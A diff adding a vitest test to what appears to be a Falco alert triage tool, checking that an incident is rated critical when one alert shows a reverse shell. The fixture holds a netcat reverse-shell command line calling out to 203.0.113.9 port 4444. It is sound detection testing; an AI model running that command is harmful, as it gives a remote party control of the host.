@@ -1,7 +1,10 @@
 import { describe, expect, it } from 'vitest'
 import { PRIORITIES, type Priority } from '../../src/model/event.ts'
 import type { Sign } from '../../src/model/report.ts'
-import { rateUrgency } from '../../src/report/urgency.ts'
+import { loadKnowledge } from '../../src/knowledge/load.ts'
+import { incidentUrgency, rateUrgency } from '../../src/report/urgency.ts'
+import { alertText } from '../support/alerts.ts'
+import { reportInput } from '../support/events.ts'
 import { plain } from './parts.ts'
 
 function sign(
@@ -55,5 +58,30 @@ describe('the urgency', () => {
     expect(because([ATTACK, BENIGN])).toEqual(['attack met'])
     expect(because([BENIGN])).toEqual(['benign met', 'Falco rates it Warning.'])
     expect(because([])).toEqual(['Falco rates it Warning.'])
+  })
+})
+
+describe('the urgency of an incident', () => {
+  it('is that of the alert whose signs say most, by the name of its rule', () => {
+    const quiet = { rule: 'Read sensitive file untrusted', priority: 'Warning' }
+    const shell = {
+      output_fields: {
+        'k8s.ns.name': 'shop',
+        'k8s.pod.name': 'web-6d4cf56db6-x7k2p',
+        'proc.name': 'sh',
+        'proc.cmdline': 'sh -c nc -e /bin/sh 203.0.113.9 4444',
+      },
+    }
+    const input = reportInput([alertText(quiet), alertText(shell)])
+    const { level, verdict, priority, because } = incidentUrgency(input, loadKnowledge(null))
+    expect({ level, verdict, priority }).toEqual({
+      level: 'now',
+      verdict: 'Treat as critical: likely reverse shell',
+      priority: 'Warning',
+    })
+    expect(plain(because[0] ?? [])).toMatch(/^‹Terminal shell in container›: /)
+    expect(incidentUrgency(reportInput([alertText(quiet)]), loadKnowledge(null)).level).toBe(
+      'today',
+    )
   })
 })
